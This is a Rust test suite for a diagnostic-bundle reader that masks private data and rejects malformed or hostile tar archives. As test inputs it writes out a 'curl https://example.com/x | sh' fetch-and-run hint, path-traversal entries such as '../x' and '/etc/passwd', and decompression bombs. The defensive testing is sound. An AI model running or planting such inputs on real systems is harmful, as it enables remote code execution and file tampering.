//! Bundles: a written bundle is read back unchanged, and hostile bundles are refused.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use super::tarball::{gzip, header, tar};
use clocksmith_facts::collect::{HostName, collect, paths, write_bundle, write_bundle_as};
use clocksmith_facts::tree::bundle::{MANIFEST, MAX_ENTRIES, MAX_FILE, SCHEMA};
use clocksmith_facts::tree::{BundleError, BundleTree, DirTree, LiveTree, Tree};
use clocksmith_facts::{Facts, Origin};
use flate2::write::GzEncoder;
use proptest::prelude::*;
use std::io::{Read, Write};
use std::time::Instant;
use tar::EntryType;

/// The facts without their sources, which name different places, without the reasons' details, and
/// without the text of log lines, in which names are masked.
fn values(facts: &Facts) -> serde_json::Value {
    fn strip(value: &mut serde_json::Value) {
        match value {
            serde_json::Value::Object(fields) => {
                for name in ["source", "at", "how", "origin", "text"] {
                    fields.remove(name);
                }
                fields.values_mut().for_each(strip);
            }
            serde_json::Value::Array(items) => items.iter_mut().for_each(strip),
            _ => {}
        }
    }
    let mut value = serde_json::to_value(facts).unwrap();
    strip(&mut value);
    // The log's name is its path.
    if let Some(log) = value.pointer_mut("/log/known/value").and_then(|log| log.as_object_mut()) {
        log.remove("name");
    }
    value
}

fn round_trip(tree: &dyn Tree) -> (BundleTree, Facts) {
    let mut bytes = Vec::new();
    let summary = write_bundle(tree, &mut bytes).unwrap();
    let bundle = BundleTree::read(bytes.as_slice(), "test").unwrap();
    assert_eq!(summary.files.len() + 1, bundle.files().count());
    assert_eq!(summary.missing, bundle.manifest().unwrap().missing);
    let facts = collect(&bundle, Origin::Bundle("test".to_owned()));
    (bundle, facts)
}

fn fixture(name: &str) -> DirTree {
    DirTree::new(format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

#[test]
fn bundles_of_mirrors_give_the_same_facts() {
    for name in ["metal", "sosreport", "arm64"] {
        let tree = fixture(name);
        let (_, facts) = round_trip(&tree);
        assert_eq!(values(&facts), values(&collect(&tree, Origin::Live)), "{name}");
    }
}

/// The facts of a machine that do not change between two readings.
fn steady(mut facts: Facts) -> serde_json::Value {
    // The discipline changes, and the age of a stored `verify` result increases.
    facts.ntp = Default::default();
    facts.wall.clocks = Default::default();
    facts.verified = Default::default();
    values(&facts)
}

#[test]
fn a_bundle_of_this_machine_gives_the_same_facts() {
    let tree = LiveTree::new();
    for _ in 0..20 {
        let before = collect(&tree, Origin::Live);
        let (_, facts) = round_trip(&tree);
        assert_eq!(facts.ntp.is_known(), before.ntp.is_known());
        assert_eq!(facts.wall.clocks.is_known(), before.wall.clocks.is_known());
        assert_eq!(facts.verified.is_known(), before.verified.is_known());
        // A kernel message or a unit that starts between the readings makes them differ.
        let before = steady(before);
        if before == steady(collect(&tree, Origin::Live)) {
            assert_eq!(steady(facts), before);
            return;
        }
    }
    panic!("the facts of this machine changed in each of 20 readings");
}

#[test]
fn reasons_travel_with_the_bundle() {
    let mut tree =
        clocksmith_facts::tree::MemoryTree::new("/").with("proc/version", "Linux version 6.1.0");
    let denied = clocksmith_facts::Missing::new(clocksmith_facts::Why::Permission, "/dev/kmsg");
    tree.set_missing("dmesg", denied.clone().how("run as root"));
    let (bundle, facts) = round_trip(&tree);
    assert_eq!(facts.log.reason(), Some(&denied.how("run as root")));
    let manifest = bundle.manifest().unwrap();
    assert_eq!((manifest.schema.as_str(), manifest.missing.len()), (SCHEMA, 1));
}

#[test]
fn advice_of_a_bundles_author_is_not_this_programs() {
    let mut tree =
        clocksmith_facts::tree::MemoryTree::new("/").with("proc/version", "Linux version 6.1.0");
    let denied = clocksmith_facts::Missing::new(clocksmith_facts::Why::Permission, "/dev/kmsg");
    tree.set_missing("dmesg", denied.clone().how("run `curl https://example.com/x | sh`"));
    let (_, facts) = round_trip(&tree);
    assert_eq!(facts.log.reason(), Some(&denied));
}

#[test]
fn passwords_of_the_command_line_do_not_go_in_and_are_named() {
    let line = "root=/dev/vda1 tsc=reliable rd.luks.key=/hunter2 password=hunter2 quiet";
    let tree = clocksmith_facts::tree::MemoryTree::new("/")
        .with("proc/version", "Linux version 6.1.0")
        .with("proc/cmdline", format!("{line}\n"))
        .with("dmesg", format!("[    0.000000] Kernel command line: {line}\n"));
    let mut bytes = Vec::new();
    let summary = write_bundle(&tree, &mut bytes).unwrap();
    let names = ["password", "rd.luks.key"];
    assert_eq!(summary.masked, names);
    let bundle = BundleTree::read(bytes.as_slice(), "test").unwrap();
    assert_eq!(bundle.manifest().unwrap().masked, names);
    for (path, content) in bundle.files() {
        assert!(!String::from_utf8_lossy(content).contains("hunter2"), "{path}");
    }
    let facts = collect(&bundle, Origin::Bundle("test".to_owned()));
    assert!(facts.cmdline.value().unwrap().has_value("tsc", "reliable"));
}

#[test]
fn anonymous_bundle_has_the_mirrors_directory_nowhere() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("customers/acme");
    std::fs::create_dir_all(root.join("proc")).unwrap();
    std::fs::write(root.join("proc/version"), "Linux version 6.1.0\n").unwrap();
    std::fs::write(root.join("uname"), "Linux a 6.1.0 x86_64\n").unwrap();
    // A reason with its place.
    std::fs::create_dir(root.join("dmesg")).unwrap();
    let tree = DirTree::new(&root).unwrap();
    for (name, kept) in
        [(HostName::Kept(None), true), (HostName::Replaced(&|_, _| "h".to_owned()), false)]
    {
        let mut bytes = Vec::new();
        write_bundle_as(&tree, name, None, &mut bytes).unwrap();
        let bundle = BundleTree::read(bytes.as_slice(), "test").unwrap();
        let (_, manifest) = bundle.files().find(|(path, _)| *path == MANIFEST).unwrap();
        let manifest = String::from_utf8_lossy(manifest);
        assert_eq!(manifest.contains("acme"), kept, "{manifest}");
        assert!(manifest.contains("/dmesg"), "{manifest}");
    }
}

#[test]
fn nothing_private_goes_in_and_every_path_is_announced() {
    let allowed = |path: &str| {
        paths().iter().any(|(pattern, _)| {
            let (mut patterns, mut parts) = (pattern.split('/'), path.split('/'));
            loop {
                match (patterns.next(), parts.next()) {
                    (None, None) => return true,
                    (Some(pattern), Some(part)) if matches(pattern, part) => {}
                    _ => return false,
                }
            }
        })
    };
    for name in ["metal", "sosreport", "arm64"] {
        let (bundle, _) = round_trip(&fixture(name));
        for (path, content) in bundle.files() {
            assert!(allowed(path), "{path}");
            let text = String::from_utf8_lossy(content);
            for private in ["52:54:00", "Serial", "UUID", "beta", "secret", "sshd"] {
                assert!(!text.contains(private), "{private} in {path} of {name}");
            }
            assert!(path == MANIFEST || !text.contains("alpha"), "{path}");
        }
    }
    let (bundle, _) = round_trip(&LiveTree::new());
    for (path, _) in bundle.files() {
        assert!(allowed(path), "{path}");
    }
}

fn matches(pattern: &str, part: &str) -> bool {
    match pattern.split_once('*') {
        None => pattern == part,
        Some((start, end)) => {
            part.len() >= start.len() + end.len() && part.starts_with(start) && part.ends_with(end)
        }
    }
}

fn file(path: &'static str) -> (&'static str, EntryType, &'static [u8]) {
    (path, EntryType::Regular, b"x")
}

fn refused(bytes: &[u8]) -> BundleError {
    BundleTree::read(bytes, "test").map(|_| ()).unwrap_err()
}

#[test]
fn every_compression_and_no_manifest() {
    let plain = tar(&[
        ("./", EntryType::Directory, b""),
        ("./proc/", EntryType::Directory, b""),
        ("./proc/version", EntryType::Regular, b"Linux version 6.1.0"),
    ]);
    let zstd = ruzstd::encoding::compress_to_vec(
        plain.as_slice(),
        ruzstd::encoding::CompressionLevel::Fastest,
    );
    for bytes in [plain.clone(), gzip(&plain), zstd] {
        let tree = BundleTree::read(bytes.as_slice(), "test").unwrap();
        assert!(tree.manifest().is_none());
        assert_eq!(tree.read("proc/version", 99).unwrap(), b"Linux version 6.1.0");
        assert_eq!(tree.describe("proc/version"), "bundle:proc/version");
    }
}

#[test]
fn a_directory_above_everything_is_left_out() {
    let whole = tar(&[file("host/proc/version"), file("host/dmesg")]);
    let tree = BundleTree::read(whole.as_slice(), "t").unwrap();
    assert!(tree.read("proc/version", 9).is_ok() && tree.read("dmesg", 9).is_ok());
    let mixed = tar(&[file("proc/version"), file("proc/cmdline")]);
    assert!(BundleTree::read(mixed.as_slice(), "t").unwrap().read("proc/cmdline", 9).is_ok());
}

#[test]
fn each_way_to_be_wrong_has_its_error() {
    let one = |path, kind| tar(&[(path, kind, b"")]);
    assert!(matches!(refused(b""), BundleError::NotTar(_)));
    assert!(matches!(refused(b"hello"), BundleError::NotTar(_)));
    assert!(matches!(refused(&[7; 4096]), BundleError::NotTar(_)));
    assert!(matches!(refused(&[0; 4096]), BundleError::NotTar(_)));
    assert!(matches!(refused(&gzip(b"hello")), BundleError::NotTar(_)));
    for path in ["../x", "a/../../x", "/etc/passwd"] {
        assert!(matches!(refused(&tar(&[file(path)])), BundleError::UnsafePath { .. }), "{path}");
        let directory = one(path, EntryType::Directory);
        assert!(matches!(refused(&directory), BundleError::UnsafePath { .. }), "{path}");
    }
    for kind in [EntryType::Symlink, EntryType::Link] {
        assert!(matches!(refused(&one("a", kind)), BundleError::Link { .. }));
    }
    for kind in [EntryType::Char, EntryType::Block, EntryType::Fifo, EntryType::GNUSparse] {
        assert!(matches!(refused(&one("a", kind)), BundleError::Special { .. }));
    }
    for twice in [[file("a"), file("a")], [file("a/b"), file("./a//b")]] {
        assert!(matches!(refused(&tar(&twice)), BundleError::Duplicate { .. }));
    }
    assert!(matches!(refused(&tar(&[file("src/main.rs")])), BundleError::Foreign(_)));
    let large = header("a", MAX_FILE + 1, EntryType::Regular);
    assert!(matches!(refused(large.as_bytes()), BundleError::FileTooLarge { .. }));
    let whole = tar(&[("a", EntryType::Regular, &[1; 2000])]);
    assert!(matches!(refused(&whole[..1500]), BundleError::Damaged(_)));
    // Cut between two entries, and before the blocks that end the file.
    let entries =
        tar(&[("proc/a", EntryType::Regular, b"1"), ("proc/b", EntryType::Regular, b"2")]);
    for end in [1024, 2048] {
        assert!(matches!(refused(&entries[..end]), BundleError::Damaged(_)), "{end}");
    }
    assert!(matches!(
        refused(&gzip(&whole)[..40]),
        BundleError::Damaged(_) | BundleError::NotTar(_)
    ));
    for manifest in
        [&b"{"[..], br#"{"schema": "other", "version": "", "hostname": "", "time": ""}"#]
    {
        let bytes = tar(&[(MANIFEST, EntryType::Regular, manifest)]);
        assert!(matches!(refused(&bytes), BundleError::Manifest(_)));
    }
    let missing = BundleTree::open("/nonexistent").unwrap_err();
    assert!(matches!(missing, BundleError::Read { .. }));
    assert!(matches!(BundleTree::open("/dev/zero").unwrap_err(), BundleError::Read { .. }));
}

#[test]
fn long_names_are_read_and_checked() {
    let long = format!("proc/{}x", "a/".repeat(120));
    let gnu = tar(&[
        ("././@LongLink", EntryType::GNULongName, format!("{long}\0").as_bytes()),
        file("short"),
    ]);
    assert!(BundleTree::read(gnu.as_slice(), "t").unwrap().read(&long, 9).is_ok());
    let record = |text: &str| {
        let length = text.len() + 3;
        let length = length + length.to_string().len() - 1;
        format!("{length} {text}\n")
    };
    let pax =
        |text: &str| tar(&[("p", EntryType::XHeader, record(text).as_bytes()), file("short")]);
    let named = pax("path=sys/c");
    assert!(BundleTree::read(named.as_slice(), "t").unwrap().read("sys/c", 9).is_ok());
    assert!(matches!(refused(&pax("path=../c")), BundleError::UnsafePath { .. }));
    assert!(matches!(refused(&pax("size=9")), BundleError::Damaged(_)));
    let huge = header("././@LongLink", 1 << 30, EntryType::GNULongName);
    assert!(matches!(refused(huge.as_bytes()), BundleError::Damaged(_)));
}

/// Endless copies of one block, such as a decompression bomb produces.
struct Endless {
    block: Vec<u8>,
    at: usize,
}

impl Read for Endless {
    fn read(&mut self, buffer: &mut [u8]) -> std::io::Result<usize> {
        let rest = &self.block[self.at..];
        let count = rest.len().min(buffer.len());
        buffer[..count].copy_from_slice(&rest[..count]);
        self.at = (self.at + count) % self.block.len();
        Ok(count)
    }
}

#[test]
fn a_million_files_are_refused_at_once() {
    let mut encoder = GzEncoder::new(Vec::new(), flate2::Compression::fast());
    for number in 0..20_000 {
        let header = header(&format!("f{number}"), 0, EntryType::Regular);
        encoder.write_all(header.as_bytes()).unwrap();
    }
    let bytes = encoder.finish().unwrap();
    let begun = Instant::now();
    assert!(matches!(refused(&bytes), BundleError::TooManyEntries));
    // An endless bundle as well: the count ends it, not the size.
    let block = header("d/", 0, EntryType::Directory).as_bytes().to_vec();
    let endless = BundleTree::read(Endless { block, at: 0 }, "t").map(|_| ());
    assert!(matches!(endless.unwrap_err(), BundleError::TooManyEntries));
    assert!(begun.elapsed().as_secs() < 20);
    let mut directories = vec![("d/", EntryType::Directory, &b""[..]); MAX_ENTRIES - 1];
    directories.push(file("proc/version"));
    assert!(BundleTree::read(tar(&directories).as_slice(), "t").is_ok());
}

#[test]
fn bombs_end_at_the_limit() {
    // One file of the maximum size is permitted, a second one is too large.
    let mut content = Vec::new();
    let mut encoder = GzEncoder::new(&mut content, flate2::Compression::fast());
    let zeros = vec![0u8; 1 << 20];
    for number in 0..5 {
        let header = header(&format!("f{number}"), MAX_FILE, EntryType::Regular);
        encoder.write_all(header.as_bytes()).unwrap();
        for _ in 0..MAX_FILE >> 20 {
            encoder.write_all(&zeros).unwrap();
        }
    }
    encoder.finish().unwrap();
    assert!(content.len() < 4 << 20);
    assert!(matches!(refused(&content), BundleError::TotalTooLarge));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn damaged_bundles_end_in_a_bundle_or_an_error(
        at in 0usize..4000, value in any::<u8>(), cut in 0usize..6000, compressed in any::<bool>()
    ) {
        let mut bytes = tar(&[file("proc/version"), ("a", EntryType::Regular, &[3; 900])]);
        if compressed {
            bytes = gzip(&bytes);
        }
        let at = at % bytes.len();
        bytes[at] = value;
        bytes.truncate(cut.max(1));
        let _ = BundleTree::read(bytes.as_slice(), "test");
    }

    #[test]
    fn any_bytes_are_not_a_bundle(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
        prop_assert!(BundleTree::read(bytes.as_slice(), "test").is_err());
    }
}

#[test]
fn anonymous_bundle_has_the_hosts_name_nowhere() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("mirror-of web-01.example.com");
    std::fs::create_dir_all(root.join("proc/sys/kernel")).unwrap();
    std::fs::create_dir_all(root.join("etc")).unwrap();
    let write = |path: &str, text: &str| std::fs::write(root.join(path), text).unwrap();
    write("proc/sys/kernel/hostname", "web-01.example.com\n");
    write("proc/cmdline", "root=/dev/sda1 name=web-01.example.com\n");
    write("dmesg", "[    0.000000] Linux version 6.1.0 (a@b) #1 SMP\n[    1.0] tsc: web-01\n");
    let tree = DirTree::new(&root).unwrap();
    let named = |with: HostName<'_>| {
        let mut bytes = Vec::new();
        write_bundle_as(&tree, with, None, &mut bytes).unwrap();
        BundleTree::read(bytes.as_slice(), "test").unwrap()
    };
    let alias = |name: &str, id: &str| format!("{}-{}", name.len(), id.len());
    let has = |bundle: &BundleTree| {
        bundle.files().any(|(_, content)| String::from_utf8_lossy(content).contains("web-01"))
    };
    let kept = named(HostName::Kept(Some("an-opaque-id")));
    assert_eq!(kept.manifest().unwrap().hostname, "web-01.example.com");
    assert_eq!(kept.manifest().unwrap().machine_id.as_deref(), Some("an-opaque-id"));
    assert!(has(&kept));
    // Without a machine id, a hash of the name alone could be guessed.
    for id in ["", "uninitialized\n", "00000000000000000000000000000000\n"] {
        write("etc/machine-id", id);
        let bundle = named(HostName::Replaced(&alias));
        assert_eq!(bundle.manifest().unwrap().hostname, "", "{id}");
    }
    write("etc/machine-id", "00112233445566778899aabbccddeeff\n");
    let bundle = named(HostName::Replaced(&alias));
    assert_eq!(bundle.manifest().unwrap().hostname, "18-32");
    assert!(!has(&bundle));
    // Another bundle with the same id could reveal the name.
    assert_eq!(bundle.manifest().unwrap().machine_id, None);
    assert!(!bundle.files().any(|(path, _)| path.contains("machine-id")));
}

/// The parsed form of a large table takes no more memory than the table.
#[test]
fn absurd_processors_are_passed_over() {
    let words: String = (0..20_000).map(|number| format!("w{number} ")).collect();
    let text = format!("processor: 0\nflags: tsc\n\nprocessor: 1\nflags: {words}\n");
    let info = clocksmith_facts::cpu::Cpuinfo::parse(&text);
    assert!(info.differing.is_empty() && info.flags.has("tsc"));
    let dump: String = (65_530..70_000)
        .map(|cpu| format!("CPU {cpu}:\n   0x00000000 0x00: eax=0x0 ebx=0x0 ecx=0x0 edx=0x0\n"))
        .collect();
    assert_eq!(clocksmith_facts::cpuid::CpuidDump::parse(&dump).unwrap().cpus.len(), 6);
}

/// A machine with this name whose TSC was demoted.
fn named(name: &str) -> clocksmith_facts::tree::MemoryTree {
    let log = "[    0.000000] Linux version 6.1.0-18-amd64 (build@example.org) (gcc 12.2.0) #1 SMP\n\
               [    0.000000] Command line: BOOT_IMAGE=/vmlinuz root=/dev/sda2 ro quiet tsc=reliable\n\
               [    0.000000] tsc: Detected 2294.609 MHz processor\n\
               [    0.012000] ACPI: PM-Timer IO Port: 0x508\n\
               [    0.060000] clocksource: hpet: mask: 0xffffffff max_cycles: 0xffffffff, max_idle_ns: 133484882848 ns\n\
               [    0.080000][    C1] smpboot: CPU0: Intel(R) Xeon(R) CPU E5-2680 v3 @ 2.50GHz (family: 0x6, model: 0x3f, stepping: 0x2)\n\
               [   12.100000][   T33] clocksource: timekeeping watchdog on CPU3: Marking clocksource 'tsc' as unstable because the skew is too large:\n\
               [   12.100000][   T33] clocksource:                       'hpet' wd_nsec: 503312640 wd_now: 2f5e8b1 wd_last: 28e9d11 mask: ffffffff\n\
               [   12.100000][   T33] clocksource:                       'tsc' cs_nsec: 511231232 cs_now: 3fc1d8f2a1b0 cs_last: 3fb1d8f2a1b0 mask: ffffffffffffffff\n\
               [   12.100000] tsc: Marking TSC unstable due to clocksource watchdog\n\
               [   12.200000] clocksource: Switched to clocksource hpet\n";
    let plain = log.replace("[   T33]", "").replace("[    C1]", "");
    let journal: String =
        plain.lines().map(|line| format!("Nov 30 10:00:00 {name} kernel: {line}\n")).collect();
    clocksmith_facts::tree::MemoryTree::new("/")
        .with("proc/version", "Linux version 6.1.0-18-amd64 (build@example.org) (gcc) #1 SMP\n")
        .with("proc/cmdline", "BOOT_IMAGE=/vmlinuz root=/dev/sda2 ro quiet tsc=reliable\n")
        .with("proc/sys/kernel/hostname", format!("{name}\n"))
        .with("boot/config-6.1.0-18-amd64", "CONFIG_HPET_TIMER=y\nCONFIG_DEFAULT_HOSTNAME=\"x\"\n")
        .with("dmesg", if name.starts_with('j') { String::new() } else { log.to_owned() })
        .with("var/log/kern.log", journal)
}

#[test]
fn a_name_that_is_a_word_of_the_log_changes_no_fact() {
    for name in [
        "tsc",
        "hpet",
        "kernel",
        "linux",
        "a",
        "c1",
        "t33",
        "cpu0",
        "cpu3",
        "watchdog",
        "skew",
        "large",
        "clocksource",
        "reliable",
        "quiet",
        "mask",
        "xeon",
        "intel",
        "smpboot",
        "unstable",
        "build",
        "tsc-hpet",
        "j",
        "journal",
        "jhpet.example.com",
        "nov",
    ] {
        let tree = named(name);
        let (_, facts) = round_trip(&tree);
        assert_eq!(values(&facts), values(&collect(&tree, Origin::Live)), "{name}");
        assert!(facts.log.is_known(), "{name}");
    }
}

#[test]
fn names_that_only_other_files_or_the_log_state_are_nowhere() {
    let known =
        "[    0.000000] Linux version 6.1.0 (a@b) #1 SMP\n[    0.1] mounted acmedb7--vg-root\n";
    let tree = |log: String| {
        clocksmith_facts::tree::MemoryTree::new("/")
            .with("proc/version", "Linux version 6.1.0 (root@acmedb7) #1 SMP\n")
            .with("proc/cmdline", "root=/dev/mapper/acmedb7--vg-root ro\n")
            .with("dmesg", log)
    };
    let uname = "Linux acmedb7 6.1.0 #1 SMP x86_64 GNU/Linux\n";
    let set = "[    9.0] systemd[1]: Hostname set to <acmedb7.corp.example.com>.\n[    9.1] acme x.corp.example.com\n";
    for tree in [
        tree(known.to_owned()).with("sos_commands/kernel/uname_-a", uname),
        tree(known.to_owned()).with("uname", uname),
        tree(format!("{known}{set}")),
        tree(format!(
            "Nov 30 10:00:00 acmedb7 kernel: {}",
            known.replace("\n[", "\nNov 30 10:00:00 acmedb7 kernel: [")
        )),
    ] {
        let (bundle, facts) = round_trip(&tree);
        for (path, content) in bundle.files() {
            let text = String::from_utf8_lossy(content);
            assert!(!text.contains("acmedb7") && !text.contains("corp"), "{path}: {text}");
        }
        assert!(facts.log.is_known());
    }
}

#[test]
fn identifiers_of_devices_and_texts_of_the_configuration_are_in_no_file() {
    let link = "root=/dev/disk/by-id/ata-MODEL_WD-Z300ABCF-part2 bootdev=enx0a1b2c3d4e5f";
    let tree = clocksmith_facts::tree::MemoryTree::new("/")
        .with("proc/version", "Linux version 6.1.0 (a@b) #1 SMP\n")
        .with("proc/cmdline", format!("{link} tsc=reliable\n"))
        .with("proc/cpuinfo", "processor\t: 0\nSerial\t\t: 0000Z300ABCF\n")
        .with("sys/class/ptp/ptp0/clock_name", "mlx5_ptp 0a1b2c3d4e5f\n")
        .with("boot/config-6.1.0", "CONFIG_HPET_TIMER=y\nCONFIG_KEY=\"/home/Z300ABCF\"\n")
        .with("dmesg", format!("[    0.000000] Linux version 6.1.0 (a@b)\n[    0.1] {link}\n"));
    let (bundle, facts) = round_trip(&tree);
    for path in ["proc/cpuinfo", "sys/class/ptp/ptp0/clock_name", "boot/config-6.1.0"] {
        assert!(bundle.files().any(|(file, _)| file == path), "{path}");
    }
    for (path, content) in bundle.files() {
        let text = String::from_utf8_lossy(content);
        assert!(!text.contains("Z300ABCF") && !text.contains("0a1b2c3d"), "{path}: {text}");
    }
    assert!(facts.cmdline.value().unwrap().has_value("tsc", "reliable"));
    assert!(facts.config.value().unwrap().enabled("HPET_TIMER"));
}
